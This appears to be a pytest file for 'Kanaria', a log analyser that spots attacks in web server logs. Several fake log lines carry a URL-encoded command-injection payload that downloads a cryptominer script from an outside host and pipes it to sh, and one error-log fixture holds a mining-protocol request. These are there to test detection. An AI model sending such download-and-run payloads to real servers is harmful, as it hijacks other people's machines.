"""Logs in layouts that nobody declared: what was learned is shown, and the user may say it better."""

from __future__ import annotations

from pathlib import Path

from tests.app.running import Kanaria

CRADLE = "/cgi-bin/x?c=%24(curl%20-s%20http://198.51.100.9/xmrig.sh%7Csh)"


def test_a_learned_layout_is_shown_with_the_input(kanaria: Kanaria, tmp_path: Path) -> None:
    (tmp_path / "own.log").write_text(
        f'[02/Jan/2026:03:04:05 +0000] 203.0.113.7 - www.example.org "GET {CRADLE} HTTP/1.1" 404 150 "-" "curl/8" 0.002\n'
        '[02/Jan/2026:03:04:06 +0000] 203.0.113.8 - www.example.org "GET / HTTP/1.1" 200 150 "-" "Mozilla/5.0" 0.002\n'
    )
    done = kanaria("analyze", "--format", "json", "own.log")
    (read,) = done.document["inputs"]
    assert (read["format"], read["rows"], read["unread"]) == ("learned", 2, 0)
    guess = '[$time_local] $remote_addr - $host "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent"'
    assert guess in read["note"]["en"]
    assert guess in read["note"]["ja"]
    assert done.incident["entities"]["remotes"] == ["203.0.113.7"]


def test_explain_takes_the_layout_of_the_line(kanaria: Kanaria) -> None:
    line = f"404;203.0.113.7;{CRADLE};GET"
    layout = "$status;$remote_addr;$request_uri;$request_method"
    done = kanaria("explain", "--log-format", layout, "--format", "json", line)
    assert done.document["inputs"][0]["format"] == "logformat"
    assert done.incident["entities"]["remotes"] == ["203.0.113.7"]


def test_labels_dates_and_file_names_are_no_senders(kanaria: Kanaria, tmp_path: Path) -> None:
    request = f'- - [02/Jan/2026:03:04:05 +0000] "GET {CRADLE} HTTP/1.1" 404 150 "-" "curl/8"'
    prefixes = ["/var/log/nginx/access.log.1:", "access.log:17:", "[pod/web-1/nginx] ", "nginx: ", '{app="web"} ',
                "2026-01-02 03:04:05 "]  # fmt: skip
    (tmp_path / "pasted.log").write_text("".join(f"{prefix}203.0.113.7 {request}\n" for prefix in prefixes))
    done = kanaria("analyze", "--format", "json", "pasted.log")
    assert {remote for item in done.document["incidents"] for remote in item["entities"]["remotes"]} == {"203.0.113.7"}
    assert done.document["coverage"]["unread"] == 0


def test_zoneless_times_are_of_the_zone_that_was_said_and_the_report_says_so(kanaria: Kanaria, tmp_path: Path) -> None:
    (tmp_path / "error.log").write_text(
        "2026/01/02 03:04:05 [info] 7#7: *1 client sent invalid method while reading client request line, client: "
        '203.0.113.7, server: _, request: "{"id":1,"method":"mining.subscribe","params":[]}"\n'
    )
    done = kanaria("analyze", "--tz", "Asia/Tokyo", "--full", "error.log")
    assert "2026-01-02 03:04:05 +09:00" in done.out
    assert "Times without a zone were read as times of Asia/Tokyo" in done.out
    (tmp_path / "kanaria.toml").write_text('timezone = "Asia/Tokyo"\n')
    document = kanaria("analyze", "--config", "kanaria.toml", "--format", "json", "error.log").document
    assert document["incidents"][0]["first_seen"] == "2026-01-01T18:04:05+00:00"
